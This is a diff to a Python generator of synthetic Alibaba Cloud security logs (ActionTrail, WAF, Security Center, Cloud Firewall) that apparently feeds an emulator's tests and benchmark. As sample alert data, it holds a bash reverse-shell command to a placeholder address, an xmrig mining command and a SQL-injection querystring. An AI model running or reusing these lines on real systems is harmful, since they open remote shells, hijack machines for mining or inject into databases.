@@ -3,12 +3,25 @@
 Kinds:
     actiontrail  ActionTrail audit events: ~20 fields, ~1 KB, topic ``actiontrail_audit_event``, a JSON ``event`` field
     oss_access   OSS access logs (topic ``oss_access_log``)
-    slb_access   SLB layer-7 access logs (topic ``slb_layer7_access_center``)
+    slb_access   SLB layer-7 access logs (topic ``slb_layer7_access_log``)
     mixed        the three kinds in turn, plus non-UTF-8 values and very large events
 
-Every log carries a content key ``event_id`` that is unique within a ``DataSpec`` (and across specs
-with different kind/seed/id_prefix), so tests can count missing and duplicated events exactly:
-``spec.event_ids()`` is the expected set and costs no generation.
+Security sources, with the field names of Alibaba's log field references (values synthetic):
+    actiontrail_json    ActionTrail as a trail delivers it (shape A): topic ``actiontrail_audit_event``, only ``event``
+                        (the ~1.4 KB record as JSON text, with requestParameters, responseElements, sessionContext)
+    actiontrail_legacy  the legacy shape B: topic ``actiontrail_event``, ``event`` and ``owner_id``
+    actiontrail_flat    shape C: no topic, flattened ``event.*`` string keys with ``event.requestParameterJson``
+    waf                 WAF 3.0 access and protection logs (topic ``waf_access_log``; ``final_*`` on blocked requests)
+    sas_alert           Security Center alerts (topic ``sas-security-log``)
+    cloudfirewall       Cloud Firewall Internet traffic logs (topic ``cloudfirewall_access_log``)
+    app_log             a plain application log that happens to have an ``event`` field (topic ``app_log``)
+    soc_mixed           all of the above and OSS and SLB, group by group
+
+
+Every log carries an event id that is unique within a ``DataSpec`` (and across specs with different
+kind/seed/id_prefix), so tests can count missing and duplicated events exactly: ``spec.event_ids()`` is the
+expected set and costs no generation. It is the content key ``event_id``, except in the ActionTrail kinds that
+carry only the record (``ACTIONTRAIL_KINDS``), where it is the record's ``eventId``; ``log_id`` reads either.
 
 Two ways to load: ``load_direct`` (serialized LogGroups straight into ``SlsEmulator.put_log_groups``,
 fast enough for the benchmark's hundreds of megabytes) and ``load_with_sdk`` (the official SDK's
@@ -29,9 +42,14 @@ if TYPE_CHECKING:  # pragma: no cover
 
 Value = Union[str, bytes]
 
-KINDS = ("actiontrail", "oss_access", "slb_access", "mixed")
+KINDS = ("actiontrail", "oss_access", "slb_access", "mixed", "actiontrail_json", "actiontrail_legacy",
+         "actiontrail_flat", "waf", "sas_alert", "cloudfirewall", "app_log", "soc_mixed")
 TOPICS = {"actiontrail": "actiontrail_audit_event", "oss_access": "oss_access_log",
-          "slb_access": "slb_layer7_access_center"}
+          "slb_access": "slb_layer7_access_log", "actiontrail_json": "actiontrail_audit_event",
+          "actiontrail_legacy": "actiontrail_event", "actiontrail_flat": "", "waf": "waf_access_log",
+          "sas_alert": "sas-security-log", "cloudfirewall": "cloudfirewall_access_log", "app_log": "app_log"}
+# Kinds whose logs are ActionTrail records (the id is the record's eventId).
+ACTIONTRAIL_KINDS = ("actiontrail_json", "actiontrail_legacy", "actiontrail_flat")
 
 _REGIONS = ("cn-hangzhou", "cn-shanghai", "cn-beijing", "ap-southeast-1", "eu-central-1", "us-west-1")
 _SERVICES = (("Ecs", "ecs.aliyuncs.com", ("DescribeInstances", "StartInstance", "StopInstance", "RunInstances")),
@@ -52,6 +70,18 @@ _OSS_OPS = (("GetObject", "GET"), ("PutObject", "PUT"), ("HeadObject", "HEAD"), 
 _HTTP_STATUS = ("200", "200", "200", "200", "206", "304", "403", "404", "500")
 _URIS = ("/", "/api/v1/orders", "/api/v1/users/42", "/static/app.js", "/healthz", "/login?next=%2Fhome",
          "/search?q=%E6%97%A5%E5%BF%97")
+_WAF_RULES = (("block", "waf", "111354", "sqli"), ("block", "waf", "113100", "xss"),
+              ("captcha", "cc", "200501", "custom"), ("js", "antiscan", "300233", "dirscan"),
+              ("block", "blacklist", "401120", "blacklist"))
+_WAF_PATHS = ("/", "/login", "/api/v1/orders", "/wp-login.php", "/search", "/admin/config.php", "/static/app.js")
+# (level, name, data_source): levels serious/suspicious/remind as Security Center names them.
+_SAS_ALERTS = (("serious", "Reverse Shell", "aegis_suspicious_event"),
+               ("suspicious", "Unusual Logon", "aegis_login_log"),
+               ("remind", "Suspicious Process Execution", "aegis_suspicious_event"),
+               ("serious", "Mining Program", "aegis_suspicious_file_v2"),
+               ("suspicious", "Webshell", "aegis_webshell"))
+_FIREWALL_APPS = (("HTTPS", "443", "tcp"), ("HTTP", "80", "tcp"), ("SSH", "22", "tcp"), ("DNS", "53", "udp"),
+                  ("Unknown", "3389", "tcp"))
 _LARGE_BLOCK = ("The quick brown fox jumps over the lazy dog; \u65e5\u5fd7\u670d\u52a1 ") * 64
 
 
@@ -166,7 +196,8 @@ def _iso(when: int, ms: int) -> str:
     return "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ" % (year, month, day, hours, minutes, seconds, ms)
 
 
-def _actiontrail(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
+def _api_call(rng: random.Random) -> Tuple[str, str, str, str, str, str, str, str]:
+    """Who called which API where: service, endpoint, action, region, user, identity type, account, principal."""
     service, endpoint, actions = rng.choice(_SERVICES)
     action = rng.choice(actions)
     region = rng.choice(_REGIONS)
@@ -174,6 +205,11 @@ def _actiontrail(rng: random.Random, event_id: str, when: int) -> List[Tuple[str
     identity = rng.choice(_IDENTITY_TYPES)
     account = "1%015d" % rng.randrange(10 ** 15)
     principal = "2%017d" % rng.randrange(10 ** 17)
+    return service, endpoint, action, region, user, identity, account, principal
+
+
+def _actiontrail(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
+    service, endpoint, action, region, user, identity, account, principal = _api_call(rng)
     source_ip = _ip(rng)
     agent = rng.choice(_AGENTS)
     request_id = "%s-%s-%s-%s-%s" % (_hex(rng, 8), _hex(rng, 4), _hex(rng, 4), _hex(rng, 4), _hex(rng, 12))
@@ -214,6 +250,148 @@ def _actiontrail(rng: random.Random, event_id: str, when: int) -> List[Tuple[str
     ]
 
 
+def _iso_offset(when: int, hours: int) -> str:
+    """``2025-03-04T09:02:03+08:00``: the local time with its offset, as WAF and SLB write ``time``."""
+    return "%s%+03d:00" % (_iso(when + hours * 3600, 0)[:19], hours)
+
+
+def _actiontrail_record(rng: random.Random, event_id: str, when: int) -> dict:
+    """A realistic ActionTrail record (field reference: ActionTrail event structure), about 1.4 KB as JSON."""
+    service, endpoint, action, region, user, identity, account, principal = _api_call(rng)
+    request_id = "%s-%s-%s-%s-%s" % (_hex(rng, 8), _hex(rng, 4), _hex(rng, 4), _hex(rng, 4), _hex(rng, 12))
+    error_code, error_message = rng.choice(_ERRORS)
+    event_time = _iso(when, rng.randrange(1000))
+    instance = "i-" + _hex(rng, 20).lower()
+    write = not action.startswith(("Describe", "List", "Get"))
+    record = {
+        "eventId": event_id, "eventVersion": "1", "eventSource": endpoint, "eventName": action,
+        "eventType": "ApiCall", "eventCategory": "Management", "eventRW": "Write" if write else "Read",
+        "eventTime": event_time, "acsRegion": region, "requestId": request_id, "apiVersion": "2014-05-26",
+        "serviceName": service, "sourceIpAddress": _ip(rng), "userAgent": rng.choice(_AGENTS),
+        "isGlobal": False, "recipientAccountId": account,
+        "userIdentity": {
+            "type": identity, "principalId": principal, "accountId": account,
+            "userName": user if identity != "assumed-role" else "OpsRole:%s-session" % user,
+            "accessKeyId": ("STS." if identity == "assumed-role" else "LTAI") + _hex(rng, 20),
+            "sessionContext": {"attributes": {"mfaAuthenticated": rng.choice(("true", "false")),
+                                              "creationDate": _iso(when - rng.randrange(3600), 0)[:19] + "Z"}}},
+        "requestParameters": {"RegionId": region, "InstanceId": instance, "PageSize": rng.choice((10, 50, 100)),
+                              "ClientToken": _hex(rng, 32).lower(), "AcceptLanguage": "en-US"},
+        "responseElements": {"RequestId": request_id, "TotalCount": rng.randrange(500),
+                             "Instances": [{"InstanceId": instance, "Status": "Running", "ZoneId": region + "-b"}]},
+        "referencedResources": {"ACS::%s::Instance" % service.upper(): [instance]},
+        "additionalEventData": {"CallbackUrl": "https://%s.console.aliyun.com/" % service.lower()},
+    }
+    if error_code:
+        record["errorCode"] = error_code
+        record["errorMessage"] = error_message
+    return record
+
+
+def _actiontrail_json(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
+    return [("event", json.dumps(_actiontrail_record(rng, event_id, when), separators=(",", ":")))]
+
+
+def _actiontrail_legacy(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
+    record = _actiontrail_record(rng, event_id, when)
+    return [("event", json.dumps(record, separators=(",", ":"))), ("owner_id", record["recipientAccountId"])]
+
+
+def _flatten(prefix: str, value: object, out: List[Tuple[str, Value]]) -> None:
+    if isinstance(value, dict):
+        for key, item in value.items():
+            _flatten(prefix + "." + key, item, out)
+    elif isinstance(value, bool):  # SLS stores strings: shape C booleans arrive as "true"/"false"
+        out.append((prefix, "true" if value else "false"))
+    elif isinstance(value, list):
+        out.append((prefix, json.dumps(value, separators=(",", ":"))))
+    else:
+        out.append((prefix, str(value)))
+
+
+def _actiontrail_flat(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
+    record = _actiontrail_record(rng, event_id, when)
+    parameters = record.pop("requestParameters")
+    record.pop("responseElements")
+    contents: List[Tuple[str, Value]] = []
+    _flatten("event", record, contents)
+    contents.append(("event.requestParameterJson", json.dumps(parameters, separators=(",", ":"))))
+    return contents
+
+
+def _waf(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
+    """WAF 3.0 log fields (field reference: WAF log fields); final_* only when a rule acted on the request."""
+    client = _ip(rng)
+    host = rng.choice(("shop.example.com", "api.example.com", "www.example.com"))
+    path = rng.choice(_WAF_PATHS)
+    acted = rng.random() < 0.35
+    contents: List[Tuple[str, Value]] = [
+        ("event_id", event_id), ("time", _iso_offset(when, 8)), ("host", host), ("matched_host", host),
+        ("real_client_ip", client), ("remote_addr", client), ("remote_port", str(rng.randrange(1024, 65535))),
+        ("request_method", rng.choice(("GET", "GET", "POST"))), ("request_path", path),
+        ("querystring", rng.choice(("", "id=1%27%20or%201=1--", "q=shoes", "redirect=%2Fhome"))),
+        ("https", rng.choice(("true", "false"))), ("server_protocol", "HTTP/1.1"), ("dst_port", "443"),
+        ("http_user_agent", rng.choice(_AGENTS)), ("http_referer", rng.choice(("-", "https://www.example.com/"))),
+        ("http_x_forwarded_for", client), ("content_type", "application/x-www-form-urlencoded"),
+        ("request_length", str(rng.randrange(200, 4000))), ("request_time_msec", str(rng.randrange(1, 900))),
+        ("request_traceid", _hex(rng, 30).lower()), ("region", "cn"), ("user_id", "1%015d" % rng.randrange(10 ** 15)),
+    ]
+    if acted:
+        action, plugin, rule_id, rule_type = rng.choice(_WAF_RULES)
+        contents += [("status", "405" if action == "block" else "200"), ("body_bytes_sent", "0"),
+                     ("final_action", action), ("final_plugin", plugin), ("final_rule_id", rule_id),
+                     ("final_rule_type", rule_type), ("upstream_status", "-")]
+    else:
+        status = rng.choice(_HTTP_STATUS)
+        contents += [("status", status), ("body_bytes_sent", str(rng.randrange(0, 100_000))),
+                     ("upstream_addr", _ip(rng) + ":443"), ("upstream_status", status)]
+    return contents
+
+
+def _sas_alert(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
+    """Security Center alert log fields (field reference: Security Center logs, security alert logs)."""
+    level, name, source = rng.choice(_SAS_ALERTS)
+    detail = {"instance_id": "i-" + _hex(rng, 20).lower(), "internet_ip": _ip(rng),
+              "intranet_ip": "172.16.%d.%d" % (rng.randrange(256), rng.randrange(1, 255)),
+              "cmdline": rng.choice(("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+                                     "/tmp/.x/xmrig -o pool.example:3333", "sshd")),
+              "user": rng.choice(("root", "www-data", "admin"))}
+    return [
+        ("event_id", event_id), ("data_source", source), ("level", level), ("name", name),
+        ("op", rng.choice(("new", "dealing"))), ("status", rng.choice(("1", "2", "8"))),
+        ("uuid", "%s-%s-%s-%s-%s" % (_hex(rng, 8), _hex(rng, 4), _hex(rng, 4), _hex(rng, 4), _hex(rng, 12))),
+        ("detail", json.dumps(detail, separators=(",", ":"))), ("unique_info", _hex(rng, 32).lower()),
+    ]
+
+
+def _cloudfirewall(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
+    """Cloud Firewall Internet firewall traffic log fields (field reference: Cloud Firewall log fields)."""
+    app, port, protocol = rng.choice(_FIREWALL_APPS)
+    inbound = rng.random() < 0.6
+    packets_in, packets_out = rng.randrange(1, 400), rng.randrange(1, 400)
+    bytes_in, bytes_out = packets_in * rng.randrange(60, 1500), packets_out * rng.randrange(60, 1500)
+    return [
+        ("event_id", event_id), ("log_type", "internet_log"), ("aliuid", "1%015d" % rng.randrange(10 ** 15)),
+        ("src_ip", _ip(rng)), ("src_port", str(rng.randrange(1024, 65535))), ("dst_ip", _ip(rng)), ("dst_port", port),
+        ("ip_protocol", protocol), ("app_name", app), ("direction", "in" if inbound else "out"),
+        ("rule_result", rng.choice(("pass", "pass", "pass", "drop", "alert"))),
+        ("acl_rule_id", "%s-%s-%s-%s-%s" % (_hex(rng, 8), _hex(rng, 4), _hex(rng, 4), _hex(rng, 4), _hex(rng, 12))),
+        ("rule_source", rng.choice(("1", "2"))), ("start_time", str(when)),
+        ("end_time", str(when + rng.randrange(1, 60))),
+        ("in_packet_count", str(packets_in)), ("in_packet_bytes", str(bytes_in)),
+        ("out_packet_count", str(packets_out)), ("out_packet_bytes", str(bytes_out)),
+        ("total_packet_bytes", str(bytes_in + bytes_out)), ("region_id", rng.choice(_REGIONS)),
+        ("country_id", rng.choice(("CN", "US", "DE", "SG", "YY"))), ("domain", rng.choice(("", "example.com"))),
+    ]
+
+
+def _app_log(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
+    """An application's own log whose ``event`` field has nothing to do with ActionTrail."""
+    return [("event_id", event_id), ("level", rng.choice(("INFO", "WARN", "ERROR"))),
+            ("event", rng.choice(("user_login", "order_created", "{\"kind\":\"cache_miss\"}"))),
+            ("message", "request handled in %d ms" % rng.randrange(1, 900))]
+
+
 def _oss_access(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
     operation, method = rng.choice(_OSS_OPS)
     bucket = rng.choice(_BUCKETS)
@@ -251,8 +429,32 @@ def _slb_access(rng: random.Random, event_id: str, when: int) -> List[Tuple[str,
     ]
 
 
-_BUILDERS = {"actiontrail": _actiontrail, "oss_access": _oss_access, "slb_access": _slb_access}
+_BUILDERS = {"actiontrail": _actiontrail, "oss_access": _oss_access, "slb_access": _slb_access,
+             "actiontrail_json": _actiontrail_json, "actiontrail_legacy": _actiontrail_legacy,
+             "actiontrail_flat": _actiontrail_flat, "waf": _waf, "sas_alert": _sas_alert,
+             "cloudfirewall": _cloudfirewall, "app_log": _app_log}
 _MIXED_ORDER = ("actiontrail", "oss_access", "slb_access")
+SOC_MIXED_ORDER = ("actiontrail_json", "waf", "oss_access", "sas_alert", "slb_access", "cloudfirewall",
+                   "actiontrail_legacy", "app_log", "actiontrail_flat")
+
+
+def log_id(contents: Sequence[Tuple[str, Value]]) -> str:
+    """The event id of a generated log: ``event_id``, else the ActionTrail record's ``eventId`` (JSON or flattened)."""
+    values = dict(contents)
+    if "event_id" in values:
+        return str(values["event_id"])
+    if "event" in values:
+        return json.loads(values["event"])["eventId"]
+    return str(values["event.eventId"])
+
+
+def group_kind(spec: DataSpec, group_index: int) -> str:
+    """The kind of the group_index-th group of a data set (mixed kinds cycle through their members)."""
+    if spec.kind == "mixed":
+        return _MIXED_ORDER[group_index % len(_MIXED_ORDER)]
+    if spec.kind == "soc_mixed":
+        return SOC_MIXED_ORDER[group_index % len(SOC_MIXED_ORDER)]
+    return spec.kind
 
 
 def generate(spec: DataSpec) -> Iterator[GeneratedGroup]:
@@ -261,7 +463,7 @@ def generate(spec: DataSpec) -> Iterator[GeneratedGroup]:
     index = 0
     group_index = 0
     while index < spec.event_count:
-        kind = _MIXED_ORDER[group_index % 3] if spec.kind == "mixed" else spec.kind
+        kind = group_kind(spec, group_index)
         build = _BUILDERS[kind]
         source = _ip(rng)
         host = "host-%02d.%s" % (rng.randrange(32), rng.choice(_REGIONS))
